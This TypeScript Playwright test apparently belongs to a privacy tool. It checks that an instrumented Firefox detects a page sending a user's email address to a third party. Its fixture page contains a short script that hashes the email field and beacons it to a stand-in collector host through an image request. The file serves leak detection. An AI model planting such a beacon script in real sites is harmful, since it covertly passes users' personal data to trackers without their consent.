import { expect, test } from '@playwright/test';
import { recordingFirefox } from './recording-firefox.ts';

const SHOP = 'account-shop.example';
const COLLECTOR = 'in.lead-collector.example';
const PAGE = `<!doctype html><html lang="en"><title>Account</title><h1>Account</h1>
<form><label>Email <input name="email" type="email" value="marie.keller7@post.example"></label></form>
<script>(async () => {
  const bytes = new TextEncoder().encode(document.querySelector('input').value);
  const digest = [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))];
  const hex = digest.map((byte) => byte.toString(16).padStart(2, '0')).join('');
  new Image().src = 'https://${COLLECTOR}/p.gif?em=' + hex;
})()</script>`;

test('Firefox, too, tells of an address that a site had and passed on', async () => {
  const executablePath = process.env['FIREFOX'];
  test.skip(!executablePath, 'this machine has no Firefox');
  const firefox = await recordingFirefox(executablePath ?? '', {
    extra: [
      {
        ...{ id: 'account', host: SHOP, title: 'Account', describe: '', paths: ['/'] },
        routes: { [SHOP]: { '/': PAGE }, [COLLECTOR]: { '/p.gif': { body: '' } } },
        truth: { always: [] },
      },
    ],
  });
  try {
    await firefox.visit(`https://${SHOP}/`);
    const leaks = async () =>
      (await firefox.rows()).filter(({ kind }) => kind === 'leak').map(({ key }) => key);
    await expect.poll(leaks).toEqual([`email>${COLLECTOR}:img:sha256:known`]);
  } finally {
    await firefox.close();
  }
});
